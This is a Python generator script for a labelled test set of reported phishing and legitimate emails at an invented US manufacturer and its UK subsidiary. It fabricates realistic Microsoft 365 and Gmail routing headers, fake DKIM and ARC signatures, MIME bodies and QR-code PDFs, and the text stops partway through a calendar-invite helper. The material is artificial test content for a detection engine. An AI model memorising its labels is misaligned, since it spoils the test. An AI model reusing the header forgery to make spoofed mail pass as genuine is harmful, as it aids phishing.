#!/usr/bin/env python3
"""Blind test set 49: the phishing-report mailbox of a US manufacturer and its UK subsidiary.

Population: Brackenridge Fluid Systems, Inc. (Columbus, Ohio, ~2,000 staff,
brackenridgefluid.com, Microsoft 365 tenant in North America) and its
subsidiary Brackenridge Fluid Systems UK Ltd (Leeds, brackenridgefluid.co.uk,
its own Microsoft 365 tenant in the UK region). The security team pulled the
original messages (as delivered to the employee's mailbox, not the forward to
the report address) of 2025 and early 2026 for a public write-up of the year:
50 attacks reported by staff and 25 legitimate look-alikes that staff also
reported, or that sit next to them in the same mailboxes.

Everything is written by hand and is deterministic: identifiers, signatures
and timestamps are derived from the message stem, never from the clock or an
unseeded random generator. People, suppliers and attacker domains are
invented; brand and service domains are the real ones.

Run: cd /work/main && .venv/bin/python samples/tools/build_blind49_samples.py
"""

from __future__ import annotations

import base64
import hashlib
import io
import sys
import zlib
from datetime import datetime, timedelta, timezone
from email import policy
from email.parser import BytesParser
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

ROOT = HERE.parent.parent
MAIL = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind49_manifest.txt"
N = 49

# The engineers move a legitimate stem between clean and bulk here, e.g. {"b49-legit-x": "bulk"}.
# Maintainer's corrections after the first scan (the names keep the writer's kind):
REFILED: dict[str, str] = {
    # A link to a download, no program in the message: the engine names the lure phishing, not malware.
    "b49-phish-malware-copyright-notice-dropbox-zip": "phishing",
    "b49-phish-malware-zoom-recording-fake-update": "phishing",
    # Notices from no-reply senders and bulk-mail services: the engine's classification calls them bulk.
    "b49-legit-adobesign-nda-signed-filed": "bulk",
    "b49-legit-sharepoint-internal-folder-share": "bulk",
    "b49-legit-onedrive-partner-rebate-statement": "bulk",
    "b49-legit-okta-new-signon-notification": "bulk",
    "b49-legit-zoom-cloud-recording-available": "bulk",
    "b49-legit-adp-pay-statement-ready": "bulk",
    "b49-legit-healthequity-hsa-statement": "bulk",
    "b49-legit-quickbooks-invoice-known-supplier": "bulk",
    "b49-legit-xero-statement-known-haulier": "bulk",
    "b49-legit-microsoft-365-invoice-ready": "bulk",
    "b49-legit-dropboxsign-customer-nda": "bulk",
}

US = "brackenridgefluid.com"
UK = "brackenridgefluid.co.uk"


# --------------------------------------------------------------------------------------------
# Deterministic identifiers
# --------------------------------------------------------------------------------------------

def hx(seed: str, n: int = 16) -> str:
    out = ""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}#{i}".encode()).hexdigest()
        i += 1
    return out[:n]


def HX(seed: str, n: int = 16) -> str:
    return hx(seed, n).upper()


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hx(seed, 12), 16) % (hi - lo + 1)


def guid(seed: str) -> str:
    h = hx(seed, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def rbytes(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{i}".encode()).digest()
        i += 1
    return out[:n]


def b64s(seed: str, n: int) -> str:
    return base64.b64encode(rbytes(seed, n)).decode()


def urlsafe(seed: str, n: int) -> str:
    return base64.urlsafe_b64encode(rbytes(seed, n)).decode().rstrip("=")


def alnum(seed: str, n: int) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    data = rbytes(seed, n)
    return "".join(alphabet[b % len(alphabet)] for b in data)


def lower_alnum(seed: str, n: int) -> str:
    alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    data = rbytes(seed, n)
    return "".join(alphabet[b % len(alphabet)] for b in data)


def b64url_text(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


# --------------------------------------------------------------------------------------------
# Dates
# --------------------------------------------------------------------------------------------

def utc(y: int, mo: int, d: int, h: int, mi: int, s: int = 0) -> datetime:
    return datetime(y, mo, d, h, mi, s, tzinfo=timezone.utc)


def fmt(dt: datetime, off: float = 0, label: str = "") -> str:
    tz = timezone(timedelta(hours=off))
    s = dt.astimezone(tz).strftime("%a, %d %b %Y %H:%M:%S %z")
    return s + (f" ({label})" if label else "")


def fmt_ms(dt: datetime) -> str:
    """Exchange's 'ExpirationStartTime' style: 14 Jan 2025 15:02:10.5123 (UTC)."""
    return dt.strftime("%d %b %Y %H:%M:%S") + f".{dt.microsecond // 100:04d} (UTC)"


def us_off(dt: datetime) -> tuple[int, str]:
    """Eastern time offset for Columbus, good enough for the DST window."""
    dst = (dt.month, dt.day) >= (3, 10) and (dt.month, dt.day) < (11, 3)
    return (-4, "EDT") if dst else (-5, "EST")


def uk_off(dt: datetime) -> int:
    return 1 if (dt.month, dt.day) >= (3, 30) and (dt.month, dt.day) < (10, 26) else 0


def pt_off(dt: datetime) -> tuple[int, str]:
    dst = (dt.month, dt.day) >= (3, 10) and (dt.month, dt.day) < (11, 3)
    return (-7, "PDT") if dst else (-8, "PST")


def build_no(dt: datetime) -> str:
    days = (dt.date() - datetime(2025, 1, 1).date()).days
    return f"{8300 + days * 2 + (days % 7)}"


# --------------------------------------------------------------------------------------------
# Header helpers
# --------------------------------------------------------------------------------------------

def fold(line: str, width: int = 78, indent: str = " ") -> str:
    """Fold a header at spaces the way Exchange writes them."""
    words = line.split(" ")
    out: list[str] = []
    cur = ""
    for w in words:
        if cur and len(cur) + 1 + len(w) > width:
            out.append(cur)
            cur = w
        else:
            cur = f"{cur} {w}" if cur else w
    out.append(cur)
    return ("\n" + indent).join(out)


def chop(s: str, width: int, indent: str) -> str:
    return ("\n" + indent).join(s[i:i + width] for i in range(0, len(s), width))


def dkim(d: str, s: str, h: str, seed: str, t: int | None = None, x: int | None = None,
         size: int = 256, extra: str = "", style: str = "tab") -> str:
    """A DKIM-Signature of the right shape (it cannot be verified offline anyway)."""
    ind = "\t" if style == "tab" else "        " if style == "google" else " "
    bh = base64.b64encode(hashlib.sha256(f"bh:{seed}:{d}".encode()).digest()).decode()
    b = b64s(f"b:{seed}:{d}:{s}", size)
    tags = f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n{ind}s={s};"
    if t is not None:
        tags += f" t={t};"
    if x is not None:
        tags += f" x={x};"
    if extra:
        tags += f" {extra};"
    tags += f"\n{ind}h={h};\n{ind}bh={bh};\n{ind}b={chop(b, 70, ind)}"
    return "DKIM-Signature: " + tags


def ts(dt: datetime) -> int:
    return int(dt.timestamp())


def ms_msgid(server_fqdn: str, seed: str) -> str:
    short = server_fqdn.split(".")[0]
    return f"<{short}{HX(seed, 40 - len(short))}@{server_fqdn}>"


def gmail_msgid(seed: str) -> str:
    return f"<CA{alnum(seed, 3)}{alnum(seed + 'x', 10)}={alnum(seed + 'y', 30)}@mail.gmail.com>"


# --------------------------------------------------------------------------------------------
# Exchange Online on the receiving side
# --------------------------------------------------------------------------------------------

PEPF_PREFIX = ["BN2PEPF", "BN3PEPF", "SN1PEPF", "CH1PEPF", "DS3PEPF", "SA2PEPF", "CO1PEPF"]


def mailbox_server(region: str, rcpt: str) -> tuple[str, str]:
    if region == "us":
        name = f"SA1PR12MB{num('mbx' + rcpt, 4000, 9899)}"
        return name, f"{name}.namprd12.prod.outlook.com"
    name = f"CWLP265MB{num('mbx' + rcpt, 3000, 7899)}"
    return name, f"{name}.GBRP265.PROD.OUTLOOK.COM"


class Mail:
    """One message under construction."""

    def __init__(self, stem: str, folder: str, desc: str, region: str, when: datetime, rcpt: str):
        self.stem = f"b{N}-{stem}"
        self.folder = folder
        self.desc = desc
        self.region = region
        self.when = when  # arrival at Exchange Online Protection, UTC
        self.rcpt = rcpt

    # Time the sender's software wrote the message (a few seconds before arrival).
    def sent(self, back: int = 3) -> datetime:
        return self.when - timedelta(seconds=back)

    def servers(self):
        s = self.stem
        mbx, mbx_f = mailbox_server(self.region, self.rcpt)
        if self.region == "us":
            ca = f"BN9PR03CA{num(s + 'ca', 1, 999):04d}"
            ca_f = f"{ca}.namprd03.prod.outlook.com"
            ca_alias = f"{ca}.outlook.office365.com"
            eop = f"{PEPF_PREFIX[num(s + 'p', 0, 6)]}0000{HX(s + 'eop', 4)}"
            eop_f = f"{eop}.namprd04.prod.outlook.com"
            v6 = f"2603:10b6:408:{hx(s + 'v6', 3)}"
            eop_ip = f"10.167.{num(s + 'o1', 240, 250)}.{num(s + 'o2', 2, 250)}"
            mbx_v6 = f"2603:10b6:806:{hx('m6' + self.rcpt, 3)}::{num('m7' + self.rcpt, 5, 20)}"
        else:
            ca = f"LO4P123CA{num(s + 'ca', 1, 999):04d}"
            ca_f = f"{ca}.GBRP123.PROD.OUTLOOK.COM"
            ca_alias = f"{ca}.outlook.office365.com"
            eop = f"LO1PEPF0000{HX(s + 'eop', 4)}"
            eop_f = f"{eop}.GBRP265.PROD.OUTLOOK.COM"
            v6 = f"2603:10a6:600:{hx(s + 'v6', 3)}"
            eop_ip = f"10.167.{num(s + 'o1', 242, 247)}.{num(s + 'o2', 2, 250)}"
            mbx_v6 = f"2603:10a6:400:{hx('m6' + self.rcpt, 3)}::{num('m7' + self.rcpt, 5, 20)}"
        return dict(mbx=mbx, mbx_f=mbx_f, ca=ca, ca_f=ca_f, ca_alias=ca_alias, eop=eop, eop_f=eop_f,
                    v6=v6, eop_ip=eop_ip, mbx_v6=mbx_v6)


def auth_results(ip: str, mailfrom: str, spf: str, dkim_res: str, dkim_d: str | None, hfrom: str,
                 dmarc: str, action: str, compauth: str, reason: str) -> str:
    spf_part = f"spf={spf} (sender IP is {ip}) smtp.mailfrom={mailfrom};"
    if dkim_res == "pass":
        dk = f"dkim=pass (signature was verified) header.d={dkim_d};"
    elif dkim_res == "fail":
        dk = f"dkim=fail (body hash did not verify) header.d={dkim_d};"
    else:
        dk = "dkim=none (message not signed) header.d=none;"
    line = (f"Authentication-Results: {spf_part} {dk}dmarc={dmarc} action={action} "
            f"header.from={hfrom};compauth={compauth} reason={reason}")
    return fold(line)


def received_spf(ip: str, helo: str, mailfrom: str, spf: str) -> str:
    if spf == "pass":
        t = (f"Received-SPF: Pass (protection.outlook.com: domain of {mailfrom} designates {ip} as "
             f"permitted sender) receiver=protection.outlook.com; client-ip={ip}; helo={helo}; pr=C")
    elif spf == "fail":
        t = (f"Received-SPF: Fail (protection.outlook.com: domain of {mailfrom} does not designate {ip} "
             f"as permitted sender) receiver=protection.outlook.com; client-ip={ip}; helo={helo};")
    elif spf == "softfail":
        t = (f"Received-SPF: SoftFail (protection.outlook.com: domain of transitioning {mailfrom} "
             f"discourages use of {ip} as permitted sender)")
    else:
        t = (f"Received-SPF: None (protection.outlook.com: {mailfrom} does not designate permitted "
             f"sender hosts)")
    return fold(t)


ANTISPAM_SFS = ["(13230040)(1800799024)(376014)(82310400026)(69100299015)(8096899003)(4022899009)",
                "(13230040)(61400799027)(1800799024)(376014)(4053099003)(8096899003)",
                "(13230040)(82310400026)(36860700013)(376014)(1800799024)(7053199007)",
                "(13230040)(4022899009)(1800799024)(376014)(2066899003)(8096899003)"]


def inbound(m: Mail, *, ip: str, helo: str, mailfrom: str, spf: str, hfrom: str,
            dkim_res: str = "none", dkim_d: str | None = None, dmarc: str = "pass",
            action: str = "none", compauth: str | None = None, reason: str | None = None,
            ptr: str | None = None, ctry: str = "US", lang: str = "en", scl: int = 1, bcl: int = 0,
            sfv: str = "NSPM", tls: str = "TLS1_2", return_path: str = "") -> tuple[str, str]:
    """The receiving tenant's headers: (top block above the sender's own, tail block below them)."""
    if compauth is None:
        if dmarc == "pass":
            compauth, reason = "pass", "100"
        elif dmarc == "bestguesspass":
            compauth, reason = "pass", "109"
        elif dmarc == "fail":
            compauth, reason = "fail", "000" if action != "none" else "001"
        else:
            compauth, reason = "softpass", "201"
    s = m.servers()
    t0 = m.when
    t1 = t0 + timedelta(milliseconds=num(m.stem + "d1", 180, 900))
    t2 = t1 + timedelta(milliseconds=num(m.stem + "d2", 300, 2400))
    b = build_no(t0)
    cipher = "TLS_AES_256_GCM_SHA384" if tls == "TLS1_3" else "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384"
    hops = [
        fold(f"Received: from {s['mbx_f']} (::1) by {s['mbx_f']} with HTTPS; {fmt(t2)}"),
        fold(f"Received: from {s['ca_f']} ({s['v6']}::{num(m.stem + 'h', 10, 99)}) by {s['mbx_f']} "
             f"({s['mbx_v6']}) with Microsoft SMTP Server (version=TLS1_2, "
             f"cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.{b}.{num(m.stem + 'b1', 10, 40)}; {fmt(t2)}"),
        fold(f"Received: from {s['eop_f']} ({s['v6']}:cafe::{hx(m.stem + 'cf', 2)}) by {s['ca_alias']} "
             f"({s['v6']}::{num(m.stem + 'h', 10, 99)}) with Microsoft SMTP Server (version=TLS1_3, "
             f"cipher=TLS_AES_256_GCM_SHA384) id 15.20.{b}.{num(m.stem + 'b2', 10, 40)} via Frontend Transport; "
             f"{fmt(t1)}"),
        auth_results(ip, mailfrom, spf, dkim_res, dkim_d, hfrom, dmarc, action, compauth, reason),
        received_spf(ip, helo, mailfrom, spf),
        fold(f"Received: from {helo} ({ip}) by {s['eop']}.mail.protection.outlook.com ({s['eop_ip']}) with "
             f"Microsoft SMTP Server (version={tls}, cipher={cipher}) id 15.20.{b}.{num(m.stem + 'b3', 5, 30)} "
             f"via Frontend Transport; {fmt(t0)}"),
    ]
    top = "\n".join(hops)
    nmid = guid(m.stem + "nmid")
    tenant = guid("tenant-" + m.region)
    arrival = t0 + timedelta(microseconds=num(m.stem + "us", 0, 999999))
    info = chop(b64s(m.stem + "info", 420), 76, " ")
    tail = [
        f"Return-Path: {return_path}" if return_path else "",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {fmt_ms(arrival)}",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id: {nmid}",
        "X-EOPAttributedMessage: 0",
        "X-EOPTenantAttributedMessage: " + tenant + ":0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        f"X-MS-TrafficTypeDiagnostic: {s['eop']}:EE_|{s['ca']}:EE_|{s['mbx']}:EE_",
        f"X-MS-Exchange-Organization-AuthSource: {s['eop_f']}",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Office365-Filtering-Correlation-Id: {guid(m.stem + 'corr')}",
        f"X-MS-Exchange-Organization-SCL: {scl}",
        f"X-Microsoft-Antispam: BCL:{bcl};ARA:13230040|1800799024|376014|82310400026|69100299015|8096899003;",
        fold(f"X-Forefront-Antispam-Report: CIP:{ip};CTRY:{ctry};LANG:{lang};SCL:{scl};SRV:{'BULK' if bcl >= 4 else ''};"
             f"IPV:NLI;SFV:{sfv};H:{helo};PTR:{ptr or helo};CAT:{'BULK' if bcl >= 6 and scl >= 5 else 'NONE'};"
             f"SFS:{ANTISPAM_SFS[num(m.stem + 'sfs', 0, 3)]};DIR:INB;"),
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {fmt_ms(arrival)}",
        f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}",
        f"X-MS-Exchange-CrossTenant-Id: {tenant}",
        f"X-MS-Exchange-CrossTenant-AuthSource: {s['eop_f']}",
        "X-MS-Exchange-CrossTenant-AuthAs: Anonymous",
        "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
        f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {s['mbx']}",
        f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:0{num(m.stem + 'lat', 1, 4)}.{num(m.stem + 'lat2', 1000000, 9999999)}",
        f"X-MS-Exchange-Processed-By-BccFoldering: 15.20.{b}.{num(m.stem + 'b4', 10, 40):03d}",
        f"X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:{'J' if scl >= 5 else 'I'};"
        "ENG:(910005)(944506478)(944626604)(920097)(930097)(3100021)(140003);",
        "X-Microsoft-Antispam-Message-Info:\n " + info,
    ]
    return top, "\n".join(x for x in tail if x)


def internal(m: Mail, sender: str) -> tuple[str, str, str]:
    """Intra-tenant delivery (HTTPS between mailbox servers): (top, tail, sender mailbox fqdn)."""
    smbx, smbx_f = mailbox_server(m.region, sender)
    rmbx, rmbx_f = mailbox_server(m.region, m.rcpt)
    t = m.when
    b = build_no(t)
    v6 = "2603:10b6:806" if m.region == "us" else "2603:10a6:400"
    top = "\n".join([
        fold(f"Received: from {smbx_f} ({v6}:{hx('m6' + sender, 3)}::{num('m7' + sender, 5, 20)}) by {rmbx_f} "
             f"with HTTPS; {fmt(t + timedelta(seconds=1))}"),
        fold(f"Received: from {smbx_f} ([fe80::{hx('fe' + sender, 4)}:{hx('fe2' + sender, 4)}:{hx('fe3' + sender, 4)}:"
             f"{hx('fe4' + sender, 4)}]) by {smbx_f} ([fe80::{hx('fe' + sender, 4)}:{hx('fe2' + sender, 4)}:"
             f"{hx('fe3' + sender, 4)}:{hx('fe4' + sender, 4)}%{num('fe5' + sender, 3, 7)}]) with mapi id "
             f"15.20.{b}.{num(m.stem + 'mapi', 10, 40):03d}; {fmt(t)}"),
    ])
    tail = "\n".join([
        "X-MS-Exchange-Organization-SCL: -1",
        "X-MS-Exchange-Organization-AuthSource: " + smbx_f,
        "X-MS-Exchange-Organization-AuthAs: Internal",
        "X-MS-Exchange-Organization-AuthMechanism: 04",
        f"X-MS-Exchange-Organization-Network-Message-Id: {guid(m.stem + 'nmid')}",
        "X-MS-Exchange-Organization-MessageDirectionality: Originating",
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:00." + str(num(m.stem + "lat", 1000000, 9999999)),
        f"X-MS-Exchange-Processed-By-BccFoldering: 15.20.{b}.{num(m.stem + 'b4', 10, 40):03d}",
        "X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:I;ENG:(910005)(944506478)(944626604)(920097)(930097)(140003);",
        "X-Microsoft-Antispam-Message-Info:\n " + chop(b64s(m.stem + "info", 300), 76, " "),
    ])
    return top, tail, smbx_f


def thread_index(seed: str) -> str:
    return base64.b64encode(b"\x01" + rbytes(seed + "ti", 21)).decode()


def exo_sender_block(m: Mail, *, domain: str, sender: str, region: str = "nam", sent: datetime | None = None,
                     dkim_d: str | None = None, selector: str = "selector1", onmicrosoft: str | None = None,
                     has_attach: bool = False, consumer: bool = False) -> dict:
    """A message sent from another Exchange Online tenant (partner, compromised partner, new
    attacker tenant, or Outlook.com). Returns the inbound() arguments and the sender's own header lines."""
    sent = sent or m.sent(2)
    s = m.stem
    if consumer:
        mbx = f"{['DM6PR06', 'SJ0PR20', 'PH7PR19', 'CH3PR19'][num(s + 'c', 0, 3)]}MB{num(s + 'smbx', 1000, 9999)}"
        mbx_f = f"{mbx}.namprd{mbx[5:7]}.prod.outlook.com"
        helo = f"NAM{num(s + 'nam', 10, 12)}-{['DM6', 'BN8', 'MW2', 'CO1'][num(s + 'dc', 0, 3)]}-obe.outbound.protection.outlook.com"
        ip = f"52.103.{num(s + 'ip3', 2, 60)}.{num(s + 'ip4', 2, 250)}"
    elif region == "nam":
        mbx = f"{['BY5PR11', 'DM4PR14', 'PH0PR08', 'MN2PR05', 'SJ2PR17'][num(s + 'c', 0, 4)]}MB{num(s + 'smbx', 1000, 9999)}"
        mbx_f = f"{mbx}.namprd{mbx[5:7]}.prod.outlook.com"
        helo = f"NAM{num(s + 'nam', 2, 12)}-{['BN8', 'DM6', 'MW2', 'SN1', 'CO1', 'BN1'][num(s + 'dc', 0, 5)]}-obe.outbound.protection.outlook.com"
        ip = f"40.107.{num(s + 'ip3', 200, 244)}.{num(s + 'ip4', 2, 250)}"
    else:  # United Kingdom / Europe
        mbx = f"{['LO2P265', 'CWXP265', 'LO0P265', 'DB9PR06'][num(s + 'c', 0, 3)]}MB{num(s + 'smbx', 1000, 9999)}"
        suffix = "GBRP265.PROD.OUTLOOK.COM" if "P265" in mbx else "eurprd06.prod.outlook.com"
        mbx_f = f"{mbx}.{suffix}"
        helo = f"{['GBR01', 'LO3P265', 'CWXP265'][num(s + 'nam', 0, 2)]}-{['LO2', 'CWL', 'LO4'][num(s + 'dc', 0, 2)]}-obe.outbound.protection.outlook.com"
        ip = f"40.107.{num(s + 'ip3', 8, 52)}.{num(s + 'ip4', 2, 250)}"
    b = build_no(m.when)
    dkim_d = dkim_d or domain
    arc_results = fold(f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass smtp.mailfrom={domain}; "
                       f"dmarc=pass action=none header.from={domain}; dkim=pass header.d={domain}; arc=none")
    arc = "\n".join([
        "ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b=" + chop(b64s(s + "arcs", 256), 75, " "),
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n "
        "h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:"
        "X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n bh="
        + base64.b64encode(hashlib.sha256((s + "arcbh").encode()).digest()).decode() + ";\n b="
        + chop(b64s(s + "arcm", 256), 75, " "),
        arc_results,
    ])
    sig = dkim(dkim_d, selector, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck",
               s + "exo", size=128 if consumer else 256, style="space")
    fe = f"fe80::{hx(s + 'fe', 4)}:{hx(s + 'fe2', 4)}:{hx(s + 'fe3', 4)}:{hx(s + 'fe4', 4)}"
    hop = fold(f"Received: from {mbx_f} ([{fe}]) by {mbx_f} ([{fe}%{num(s + 'fe5', 3, 7)}]) with mapi id "
               f"15.20.{b}.{num(s + 'mapi', 10, 40):03d}; {fmt(sent)}")
    return dict(ip=ip, helo=helo, mailfrom=domain, spf="pass", dkim_res="pass", dkim_d=dkim_d,
                hfrom=domain, dmarc="pass", tls="TLS1_3", mbx=mbx, mbx_f=mbx_f, sent=sent,
                pre="\n".join([arc, sig, hop]),
                post="\n".join([
                    "Accept-Language: en-US",
                    "Content-Language: en-US",
                    f"X-MS-Has-Attach: {'yes' if has_attach else ''}",
                    "X-MS-TNEF-Correlator:",
                    f"X-MS-Exchange-SenderADCheck: 1",
                    "X-MS-Exchange-AntiSpam-Relay: 0",
                ]),
                msgid=ms_msgid(mbx_f, s + "mid"))


def google_sender_block(m: Mail, *, domain: str, sent: datetime | None = None, gmail: bool = False) -> dict:
    """A message sent through Gmail or Google Workspace."""
    sent = sent or m.sent(2)
    s = m.stem
    host = f"mail-{['sor-f41', 'wr1-f45', 'lf1-f52', 'pl1-f170', 'qt1-f175', 'yb1-f181', 'ed1-f44'][num(s + 'g', 0, 6)]}.google.com"
    octets = {"sor-f41": "209.85.220.41", "wr1-f45": "209.85.221.45", "lf1-f52": "209.85.167.52",
              "pl1-f170": "209.85.214.170", "qt1-f175": "209.85.160.175", "yb1-f181": "209.85.219.181",
              "ed1-f44": "209.85.208.44"}
    ip = octets[host[5:-11]]
    off, label = us_off(sent) if m.region == "us" else (uk_off(sent), "BST" if uk_off(sent) else "GMT")
    date_recv = fmt(sent + timedelta(seconds=1), off, label)
    sid = f"{num(s + 'sid', 2, 9)}adb3069b0e04-{num(s + 'sid2', 100, 999)}{hx(s + 'sid3', 7)}"
    xr = (f"X-Received: by 2002:a05:{hx(s + 'x1', 4)}:{hx(s + 'x2', 3)}:b0:{hx(s + 'x3', 3)}:{hx(s + 'x4', 4)} "
          f"with SMTP id\n        {sid}.{num(s + 'x5', 10, 99)}.{num(s + 'x6', 1000000000000, 9999999999999)};\n        {date_recv}")
    if gmail:
        sig = dkim("gmail.com", "20230601", "to:subject:message-id:date:from:mime-version:from:to:cc:subject\n         :date:message-id:reply-to",
                   s + "g", t=ts(sent), x=ts(sent) + 604800, extra=f"darn={m.rcpt.split('@')[1]}", style="google")
    else:
        sig = dkim(domain, "google", "to:subject:message-id:date:from:mime-version:from:to:cc:subject\n         :date:message-id:reply-to",
                   s + "g", t=ts(sent), x=ts(sent) + 604800, extra=f"darn={m.rcpt.split('@')[1]}", style="google")
    xg = dkim("1e100.net", "20230601", "to:subject:message-id:date:from:mime-version:x-gm-message-state\n         :from:to:cc:subject:date:message-id:reply-to",
              s + "x", t=ts(sent), x=ts(sent) + 604800, style="google").replace("DKIM-Signature", "X-Google-DKIM-Signature")
    pre = "\n".join([
        f"Received: by {host} with SMTP id {sid}.{num(s + 'y5', 10, 99)}\n        for <{m.rcpt}>; {date_recv}",
        sig,
        xg,
        f"X-Gm-Message-State: AOJu0Y{alnum(s + 'gms', 56)}\n\t{alnum(s + 'gms2', 40)}==",
        f"X-Gm-Gg: ASbGnc{alnum(s + 'gg', 60)}\n\t{alnum(s + 'gg2', 60)}",
        f"X-Google-Smtp-Source: AGHT+IF{alnum(s + 'gss', 60)}==",
        xr,
    ])
    return dict(ip=ip, helo=host, mailfrom=domain, spf="pass", dkim_res="pass",
                dkim_d="gmail.com" if gmail else domain, hfrom=domain, dmarc="pass", tls="TLS1_3",
                pre=pre, sent=sent, off=off, label=label, msgid=gmail_msgid(s))


def emit_parts(m: Mail, params: dict, sender_headers: str, body) -> bytes:
    """Join the receiving tenant's top block, the sender's hops/signatures, its headers and the tail."""
    keys = ["ip", "helo", "mailfrom", "spf", "hfrom", "dkim_res", "dkim_d", "dmarc", "action", "compauth",
            "reason", "ptr", "ctry", "lang", "scl", "bcl", "sfv", "tls", "return_path"]
    params = dict(params)
    if "hfrom" not in params:
        import re
        line = next(l for l in sender_headers.split("\n") if l.lower().startswith("from:"))
        params["hfrom"] = re.findall(r"@([A-Za-z0-9.-]+)", line)[-1].lower()
    top, tail = inbound(m, **{k: params[k] for k in keys if k in params})
    blocks = [top]
    if params.get("pre"):
        blocks.append(params["pre"])
    blocks.append(sender_headers.strip("\n"))
    if params.get("post"):
        blocks.append(params["post"])
    if not any(l.lower().startswith("mime-version:") for l in sender_headers.split("\n")):
        blocks.append("MIME-Version: 1.0")
    blocks.append(tail)
    return message("\n".join(blocks), body)


def emit_internal(m: Mail, sender: str, sender_headers: str, body) -> bytes:
    top, tail, _ = internal(m, sender)
    blocks = [top, sender_headers.strip("\n")]
    if not any(l.lower().startswith("mime-version:") for l in sender_headers.split("\n")):
        blocks.append("MIME-Version: 1.0")
    blocks.append(tail)
    return message("\n".join(blocks), body)


def alt(plain: str, html: str, boundary: str, enc: str = "quoted-printable", charset: str = "utf-8") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc, charset), text(html, "html", enc, charset)])


def bnd(seed: str, style: str = "ms") -> str:
    if style == "ms":
        return f"_000_{HX(seed, 40)}_"
    if style == "gmail":
        return f"000000000000{hx(seed, 16)}"
    if style == "eq":
        return f"===============" + str(num(seed, 1000000000000000000, 9999999999999999999)) + "=="
    if style == "php":
        return f"b1_{alnum(seed, 43)}"
    if style == "hyph":
        return f"----={hx(seed, 8)}_{hx(seed + '2', 8)}"
    if style == "java":
        return f"----=_Part_{num(seed, 100000, 9999999)}_{num(seed + 'j', 100000000, 2147483647)}.{num(seed + 'k', 1700000000000, 1799999999999)}"
    if style == "sg":
        return hx(seed, 64)
    return f"--{hx(seed, 24)}"


def mp3_silence(seconds: int) -> bytes:
    """An ID3-tagged MP3 of silent MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz)."""
    tag_body = b"TIT2" + (len(b"\x00Voicemail") ).to_bytes(4, "big") + b"\x00\x00" + b"\x00Voicemail"
    header = b"ID3\x03\x00\x00" + bytes([0, 0, (len(tag_body) >> 7) & 0x7F, len(tag_body) & 0x7F])
    frame = b"\xff\xfb\x90\x64" + b"\x00" * (417 - 4)
    frames = int(seconds * 44100 / 1152)
    return header + tag_body + frame * frames


def qr_gray(url: str) -> tuple[bytes, int, int]:
    from PIL import Image

    img = Image.open(io.BytesIO(files.qr_png(url))).convert("L")
    return img.tobytes(), img.width, img.height


def qr_pdf(lines: list[str], url: str, title: str, below: list[str] | None = None) -> bytes:
    """A one-page PDF: text at the top, a QR code image, optional text below it."""
    raw, w, h = qr_gray(url)
    image = zlib.compress(raw, 9)
    content = ["BT", "/F1 12 Tf", "16 TL", "56 780 Td"]
    for line in lines:
        content.append(f"({files._pdf_escape(line)}) Tj T*")
    content.append("ET")
    content.append(f"q 190 0 0 190 202 {780 - 16 * len(lines) - 220} cm /Im1 Do Q")
    if below:
        content += ["BT", "/F1 10 Tf", "14 TL", f"56 {780 - 16 * len(lines) - 250} Td"]
        for line in below:
            content.append(f"({files._pdf_escape(line)}) Tj T*")
        content.append("ET")
    stream = "\n".join(content).encode("latin-1")
    objects = files.image_page(stream, image, w, h, "FlateDecode")
    objects.append(f"<< /Title ({files._pdf_escape(title)}) /Producer (Skia/PDF m131) "
                   f"/Creator (Chromium) >>".encode())
    return files.pdf_file(objects, len(objects))


def ics(uid: str, summary: str, organizer: tuple[str, str], attendees: list[tuple[str, str]], start: datetime,
        minutes: int, location: str, description: str, method: str = "REQUEST") -> bytes:
    def t(d: datetime) -> str:
        return d.strftime("%Y%m%dT%H%M%SZ")

    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n")

    def fold75(line: str) -> str:
        out = []
        while len(line) > 74:
            out.append(line[:74])
            line = " " + line[74:]
        out.append(line)
        return "\r\n".join(out)

